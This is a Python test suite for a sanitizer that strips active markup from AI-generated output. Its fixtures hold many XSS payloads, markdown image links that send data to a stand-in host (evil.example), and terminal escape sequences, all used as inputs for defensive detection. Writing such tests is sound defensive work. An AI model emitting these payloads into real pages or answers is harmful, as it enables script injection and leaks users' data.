import gzip
import json

import pytest
from chunks import cut, places, whole
from chunks import pieces as in_pieces
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from judges import HOSTS, active, rendered_active
from shared_data import shared_data

from guard_integrations import GuardPolicy, OutputSanitizer
from guard_integrations.core.findings import Action
from guard_integrations.core.scanner.markup import MARKUP_RULES, MarkupDetector

MARKDOWN = MarkupDetector(allowed_hosts=HOSTS)
HTML = MarkupDetector(render="html", allowed_hosts=HOSTS)
TEXT = MarkupDetector(render="text", allowed_hosts=HOSTS)
STRICT = MarkupDetector(allowed_hosts=HOSTS, listed_only=True)
DETECTORS = {"markdown": MARKDOWN, "html": HTML, "text": TEXT, "strict": STRICT}
FRAGMENTS = [
    *("`", "``", "```", "~~~", "\n", "\n\n", "\n", "    ", "  ", "- ", "1. ", "> ", "# ", "|", "|-|-|\n", "a", "b "),
    *("\\", "!", "![", "[", "]", "m](", "](http://evil.example/?q=1)", "(", ")", "](https://good.example/x.png?a)"),
    *("](https://ok.example/a)", "](<", ">", "]: http://evil.example/?a", "]: https://ok.example/a.png", "[r]", "![r]"),
    *("[r]: https://ok.example/i.png\n", "[r]: https://good.example/i.png\n", "<script>", "</script>", "alert(1)"),
    *(
        "<img src=x onerror=alert(1)>",
        "<b>",
        "</b>",
        "<div>",
        "</div>",
        "<a href='javascript:x'>",
        "</a>",
        "<!--",
        "-->",
    ),
    *(
        '<a href="https://ok.example/">',
        "<svg onload=x>",
        "<style>",
        "</style>",
        "<?",
        "?>",
        "<![CDATA[",
        "]]>",
        "<pre>",
    ),
    *(
        "<textarea>",
        "http://evil.example/?x=y",
        "www.evil.example/?q=2",
        "https://ok.example/a",
        "<https://ok.example>",
    ),
    *(
        "<http://evil.example/?q>",
        "javascript:alert(1)",
        "](java&#115;cript:alert(1))",
        "\\033[31m",
        "\\x1b[0m",
        "&lt;",
    ),
    *("&#60;script&#62;", '"', "'", "=", "<x y=1>", "<your name>", "<", "</", "$", "\t", "\r\n", "\r", "***", "---\n"),
    *("===\n", "[^1]: ", "[^1]", "\xe9", "\u6f22", "<details>", "<iframe src=http://evil.example>", "{", ":", "<p"),
    *("\n<div onclick=x\n", "<table><tr><td>", "<a title='", '<a title="`', '" onclick=x>', "\x00", "\ud800"),
]
texts = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), max_size=16).map("".join)
relaxed = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])


def clean(detector, text):
    return whole(detector, text)[0]


@pytest.mark.parametrize("render", DETECTORS)
@given(text=texts, cuts=places)
@settings(relaxed, max_examples=100)
def test_a_stream_equals_the_batch(render, text, cuts):
    shown, findings = in_pieces(DETECTORS[render], cut(text, cuts))
    assert ("".join(shown), findings) == whole(DETECTORS[render], text)


@pytest.mark.parametrize("render", DETECTORS)
@given(text=texts)
@settings(relaxed, max_examples=100)
def test_a_second_pass_changes_nothing(render, text):
    once = clean(DETECTORS[render], text)
    assert clean(DETECTORS[render], once) == once


@given(texts)
@settings(relaxed, max_examples=100)
def test_no_renderer_of_markdown_is_left_with_anything_active(text):
    assert rendered_active(clean(MARKDOWN, text)) == {}


@given(texts)
@settings(relaxed, max_examples=200)
def test_no_browser_is_left_with_anything_active(text):
    assert active(clean(HTML, text)) == []


@pytest.mark.parametrize("render", DETECTORS)
@pytest.mark.parametrize(
    "text",
    [
        "a < b && c > d",
        "",
        "if x <3 and y> 2: print(x[1](2) if x else y)",
        "I <3 you! Really! [sic] {really} (1) [2]",
        "5 * 3 = 15_000 & R&D; AT&T &amp; co.",
        "# Title\n\n- one\n- two\n\n1. three\n\n> quoted *text*\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "C:\\Users\\name and \\u0041 and \\n and \\alpha",
        "caf\xe9 \u6f22\u5b57 \U0001f600\r\nnext\rlast",
    ],
)
def test_text_without_markup_comes_back_byte_for_byte(render, text):
    assert whole(DETECTORS[render], text) == (text, ())


@pytest.mark.parametrize(
    "text",
    [
        "See [the docs](https://docs.python.org/3/library/asyncio-task.html#asyncio.create_task) for more.",
        "See https://en.wikipedia.org/wiki/List_of_countries_and_dependencies_by_population or <https://ok.example/a>.",
        "Write to <me@ok.example>, or [mail](mailto:me@ok.example), or [call](tel:+123456).",
        "[here](#below), [there](/docs/a?b=c), [ref][1], [2]\n\n[1]: https://ok.example/paper 'A paper'\n",
        '![logo](https://good.example/logo.png) and ![sub](https://cdn.good.example/a.png?size=2 "t")',
        "[a](https://good.example/search?q=anything%20at%20all)",
        "![later][img]\n\n[img]: https://good.example/a.png\n",
        "x<sub>2</sub>, <kbd>Ctrl</kbd>, line<br>break, <details><summary>more</summary>text</details>",
        "Use <your name> and vector<int> and List<String> here.",
        '<a href="https://ok.example/a" title="A &amp; B">a</a> <img src="https://good.example/a.png" alt="b">',
        "`<script>alert(1)</script>` and ``![x](http://evil.example/?q=`1`)`` stay",
        "```html\n<script>alert(1)</script>\n![x](http://evil.example/?q=1)\n\n\\033[31m\n```\nafter",
        "~~~~\n```\n<img src=x onerror=1>\n~~~\n~~~~ \n",
        "text\n\n    <script>indented</script>\n    [a](javascript:b)\n\ntext",
        "1. Do this:\n\n   ```html\n   <iframe src=x></iframe>\n\n   <b onclick=x>\n   ```\n\n2. Then `<form>`.\n",
        "> quoted:\n> ```\n> <script>\n> ```\n> done\n",
        "| a | b |\n|---|---|\n| `<script>` | [x](https://ok.example/a) |\n",
        "```\nunclosed <script>",
        "Run `curl https://api.example/v1?key=1` or `http://localhost:8000`.",
    ],
)
def test_harmless_markdown_and_all_code_stay_as_they_are(text):
    assert whole(MARKDOWN, text) == (text, ())
    assert in_pieces(MARKDOWN, list(text))[0] != [text]
    assert "".join(in_pieces(MARKDOWN, list(text))[0]) == text


@pytest.mark.parametrize(
    ("text", "expected", "rules"),
    [
        ("![x](http://evil.example/a.png)", "[x](http://evil.example/a.png)", ["markup-image"]),
        ("![x](http://evil.example/?q=secret)", "[x] (link removed)", ["markup-image", "markup-link-exfiltration"]),
        ("![x](//evil.example/a.png)", "[x](//evil.example/a.png)", ["markup-image"]),
        ("![x](data:image/svg+xml,a)", "[x] (link removed)", ["markup-image", "markup-dangerous-scheme"]),
        ("![x](/logout)", "[x](/logout)", ["markup-image"]),
        ("![x][r]\n\n[r]: http://evil.example/?q\n", "![x][r]\n\n[r] (link removed)\n", ["markup-link-exfiltration"]),
        ("![x][r]\n\n[r]: http://evil.example/a.png\n", "![x][r]\n\n[r] (link removed)\n", ["markup-image"]),
        ("[r]: http://ok.example/a\n\n![x][r]\n", "[r]: http://ok.example/a\n\n[x][r]\n", ["markup-image"]),
        ("[a](javascript:alert(1))", "[a] (link removed)", ["markup-dangerous-scheme"]),
        ("[a](java&#115;cript:alert(1))", "[a] (link removed)", ["markup-dangerous-scheme"]),
        ("[a](JaVa&Tab;Script:alert(1))", "[a] (link removed)", ["markup-dangerous-scheme"]),
        ("[a](<vbscript:x>)", "[a] (link removed)", ["markup-dangerous-scheme"]),
        ("[a](data:text/html;base64,PHN2Zz4=)", "[a] (link removed)", ["markup-dangerous-scheme"]),
        ("[a](http://good.example@evil.example/)", "[a] (link removed)", ["markup-link-exfiltration"]),
        ("[a](http://evil.example&#92;@good.example/?q)", "[a] (link removed)", ["markup-link-exfiltration"]),
        ("[a](http:evil.example?q)", "[a] (link removed)", ["markup-link-exfiltration"]),
        ("[a](\\\\\\\\evil.example?q)", "[a] (link removed)", ["markup-link-exfiltration"]),
        (
            "[a](http://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)",
            "[a] (link removed)",
            ["markup-link-exfiltration"],
        ),
        ("<http://evil.example/?q=1>", "[link removed]", ["markup-link-exfiltration"]),
        ("see http://evil.example/?q=1.", "see [link removed].", ["markup-link-exfiltration"]),
        ("see www.evil.example/?q=1", "see [link removed]", ["markup-link-exfiltration"]),
        ("<javascript:alert(1)>", "&lt;javascript:alert(1)>", ["markup-active-html"]),
        ("a <script>alert(1)</script> b", "a   b", ["markup-active-html"]),
        ("a <script>alert(1)", "a &lt;script>alert(1)", ["markup-active-html"]),
        ("<b onclick=alert(1)>x</b>", "<b>x</b>", ["markup-active-html"]),
        ('<img src="http://evil.example/a.png">', "[image removed]", ["markup-image"]),
        ('<a href="http://evil.example/?q">x</a>', "<a>x</a>", ["markup-link-exfiltration"]),
        ("<svg><script href=data:,x />", "&lt;svg>&lt;script href=data:,x />", ["markup-active-html"] * 2),
        ("a\n\n<!-- hidden\n\n-->", "a\n\n&lt;!-- hidden\n\n-->", ["markup-active-html"]),
        ("- item\n\n    ![x](http://evil.example/?q)\n", "- item\n\n    [x] (link removed)\n", None),
        ("- ```\n  code\n![x](http://evil.example/?q)\n", "- ```\n  code\n[x] (link removed)\n", None),
        ("[a ``](http://evil.example/?q) b``", "[a ``] ([link removed]) b``", None),  # for marked, a link
        ("[a `]``](http://evil.example/?q)`", "[a `]``] ([link removed]", None),
        ("https://ok.example/a[<b>](http://x/?q=1)", "[link removed]<b>] (link removed)", None),  # for markdown-it
        ("https://ok.example/a[?<b>q=12]", "[link removed]?<b>q=12]", None),
        ("https://ok.example/{<b>?q=12}", "[link removed]<b>?q=12}", None),
        ('https://ok.example/"<b>?q=12"', '[link removed]"<b>?q=12"', None),
        ("Hello \\033[32mGREEN\\033[0m", "Hello  GREEN ", ["terminal-escape-written"] * 2),
        ("\\0\\033[0m33[31m", "\\0 33[31m", ["terminal-escape-written"]),
        ("\\x1b]8;;http://evil.example\\x07link\\x1b]8;;\\x1b\\\\", "link ", ["terminal-escape-written"] * 2),
    ],
)
def test_what_acts_in_markdown_does_no_longer(text, expected, rules):
    shown, findings = whole(MARKDOWN, text)
    assert shown.strip() == expected.strip() if rules is None else shown == expected
    assert rules is None or sorted(finding.rule for finding in findings) == sorted(rules)
    assert findings


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<p>Hello <b>you</b></p>", "<p>Hello <b>you</b></p>"),
        ("<script>alert(1)</script>Hello", "Hello"),
        ("Hello<script>alert(1)", "Hello "),
        ("`<script>alert(1)</script>`", "` `"),
        ("<p onclick='x'>a</p>", "<p>a</p>"),
        ("<a href='https://ok.example/a'>a</a>", '<a href="https://ok.example/a">a</a>'),
        ("<a href=javascript:alert(1)>a</a>", "<a>a</a>"),
        ("<td colspan=2 onclick=x>a</td>", '<td colspan="2">a</td>'),
        ("<img src=//evil.example/a>", "[image removed]"),
        ("<!-- a --><b>x</b><!doctype html>", "<b>x</b> "),
        ("john@exa<!-- -->mple.com", "john@exa mple.com"),
        ("<form action=x><input name=y>z</form>", "z "),
        ("<<x y=1>script>alert(1)</script>", "< script>alert(1) "),
        ("vector<int> x <3", "vector&lt;int> x <3"),
        ("<img src=x onerror=alert(1) ", "&lt;img src=x onerror=alert(1) "),
        ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', None),
        ('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', None),
    ],
)
def test_what_acts_in_html_goes(text, expected):
    shown = clean(HTML, text)
    assert active(shown) == []
    assert expected is None or shown == expected


def test_strict_links_only_to_the_list():
    text = "[a](https://ok.example/a) https://ok.example <https://ok.example/b> [b](https://good.example/?q=1) [c](#d)"
    assert (
        clean(STRICT, text) == "[a] (link removed) [link removed] [link removed] [b](https://good.example/?q=1) [c](#d)"
    )


def test_plain_text_keeps_its_angle_brackets():
    assert clean(TEXT, "<script> is a tag; http://evil.example/?q=1") == "<script> is a tag; [link removed]"


def test_prose_is_shown_at_once_and_markup_when_its_paragraph_ends():
    chunks = ["Hello ", "there, ", "[a](http", "s://ok.example/x) ", "and more.\n", "\n", "Next ", "line"]
    assert in_pieces(MARKDOWN, chunks)[0] == [
        "Hello ",
        "there, ",
        "[a",
        "",
        "",
        "](https://ok.example/x) and more.\n\n",
        "Next ",
        "line",
        "",
    ]


def test_fenced_code_is_shown_at_once():
    chunks = ["```html\n", "<scr", "ipt>", "![x](http://e/?q)\n", "``", "`\n", "<scr", "ipt>\n\n"]
    assert in_pieces(MARKDOWN, chunks)[0] == [*chunks[:6], "", "&lt;script>\n\n", ""]


@pytest.mark.parametrize("piece", ["<a ", "![", "x](", "`a` ", "word ", "<!-- ", "> - ", "!", "[a](b", "www.", "\\"])
def test_what_is_held_is_bounded(piece):
    for detector in DETECTORS.values():
        session = detector.start()
        fed = 0
        for _ in range(60):
            text = piece * (1000 // len(piece))
            fed += len(text)
            assert fed - session.feed(text).decided <= 20_000


def test_a_block_that_is_too_long_loses_its_markup_even_in_code():
    text = "`code <script>` " + "word <b onclick=x> " * 2000
    shown, findings = whole(MARKDOWN, text)
    assert rendered_active(shown) == {}
    assert findings
    assert "".join(in_pieces(MARKDOWN, cut(text, range(0, 40_000, 333)))[0]) == shown


@pytest.mark.parametrize(
    "before",
    [
        "```\rcode\n\nfoo\n\n",  # a fence for those to whom a lone carriage return ends a line
        "word <b onclick=x> " * 1000 + "\n```\ncode\n\nfoo\n\n",  # a fence after a block that was cut
        "`" * 1200 + "\ncode\n\nfoo\n\n" + "`" * 1200 + "\n",
        "- [a](https://ok.example/a) word\n" * 800 + "\n  ```\n  code\n\nfoo\n\n",
        "``` " + "x" * 20_000 + "\ncode <b>\n\nfoo\n\n",
    ],
)
def test_nothing_counts_as_code_where_it_is_unknown_what_a_fence_does(before):
    for fence in ("```", "   ```", "~~~"):
        shown = clean(
            MARKDOWN, f"{before}{fence}\n<script>alert(1)</script>\n![x](http://evil.example/?q=1)\n{fence}\n"
        )
        assert rendered_active(shown) == {}


@pytest.mark.parametrize("rule", sorted(MARKUP_RULES))
def test_a_disabled_rule_does_not_run(rule):
    text = "<script>a</script>\n\n![a](http://evil.example/?q=1)\n\n[b](javascript:x) \\033[1m"
    for render in ("markdown", "html", "text"):
        _, findings = whole(MarkupDetector(render=render, disabled=frozenset({rule})), text)
        assert rule not in {finding.rule for finding in findings}


def test_flag_reports_and_changes_nothing():
    text = "<script>a</script> ![a](http://evil.example/?q=1)"
    shown, findings = whole(MarkupDetector(action=Action.FLAG), text)
    assert shown == text
    assert {finding.action for finding in findings} == {Action.FLAG}


def test_findings_stand_where_they_were_found():
    text = "Hi \xe9 [a](javascript:x) there\n\n<b onclick=x>"
    _, findings = whole(MARKDOWN, text)
    assert [text[finding.start : finding.end] for finding in findings] == ["(javascript:x)", "<b onclick=x>"]


def test_the_output_sanitizer_runs_it_on_what_the_others_left():
    answer = "![a](http://e.example/a.png) <script>x</script> `<script>`"
    assert OutputSanitizer().sanitize(answer).text == "[a](http://e.example/a.png)   `<script>`"
    assert OutputSanitizer(render="html").sanitize(answer).text == "![a](http://e.example/a.png)   ` "
    listed = GuardPolicy(allowed_hosts=frozenset({"e.example"}))
    assert OutputSanitizer(listed).sanitize("![a](http://e.example/a.png)").text == "![a](http://e.example/a.png)"
    formed = "!john@evil.example(http://e.example/a.png) !\u200b[b](http://e.example/b.png)"
    assert "![" not in OutputSanitizer().sanitize(formed).text


def rows(name):
    with gzip.open(shared_data(f"dev/{name}.jsonl.gz"), "rt", encoding="utf-8") as lines:
        return [json.loads(line) for line in lines]


@pytest.mark.parametrize(
    "name", ["xss_bleach_tests", "xss_nh3_tests", "xss_owasp_filter_evasion", "xss_payloadbox_sample"]
)
def test_no_payload_is_left_active(name):
    payloads = [row["text"] for row in rows(name)]
    assert sum(bool(active(payload)) for payload in payloads) > len(payloads) / 5  # the attack succeeds without
    assert [payload for payload in payloads if active(clean(HTML, payload))] == []


@pytest.mark.parametrize("name", ["markdown_exfil_garak", "markdown_exfil_spikee"])
def test_no_image_is_left_that_carries_data(name):
    texts = [row["text"] for row in rows(name)]
    assert any(rendered_active(text) for text in texts)
    assert [text for text in texts if rendered_active(clean(MARKDOWN, text))] == []


def test_no_terminal_escape_is_left():
    for row in rows("ansi_garak"):
        shown = OutputSanitizer(render="text").sanitize(row["text"]).text
        assert not set("\x1b\x9b\x9d") & set(shown)
        assert not any(
            written in shown.lower() for written in ("\\x1b[", "\\x1b]", "\\033[", "\\033]", "\\u001b[", "\\x9b")
        )


@pytest.mark.parametrize("piece", ["](", "![a](//", "<script", "<a ", "<b onclick=x> w<ww. :[// "])
@pytest.mark.parametrize("before", ["", "`code` and ", "a < b\n\n- "])
def test_a_block_with_hundreds_of_changes_is_taken_apart(before, piece):
    text = before + piece * 900 + "\n\nafter <b>that</b>"
    shown, findings = whole(MARKDOWN, text)
    assert rendered_active(shown) == {}
    assert shown.endswith("\n\nafter <b>that</b>")
    assert shown.startswith(before)
    assert len(findings) < 900
    assert {finding.rule for finding in findings} <= set(MARKUP_RULES)
    for size in (1, 333):
        assert "".join(in_pieces(MARKDOWN, cut(text, range(0, len(text), size)))[0]) == shown
    assert whole(MARKDOWN, shown)[0] == shown


@pytest.mark.parametrize("tag", ['<a title="\ud800" href="https://ok.example/">', "<td \udfff=x>", "<b \ud83d>"])
@pytest.mark.parametrize("render", ["markdown", "html"])
def test_half_a_character_in_a_tag_is_read_over(tag, render):
    shown = clean(DETECTORS[render], f"{tag}Hello<script>alert(1)</script>")
    assert "Hello" in shown
    assert not active(shown.encode("utf-8", "replace").decode())
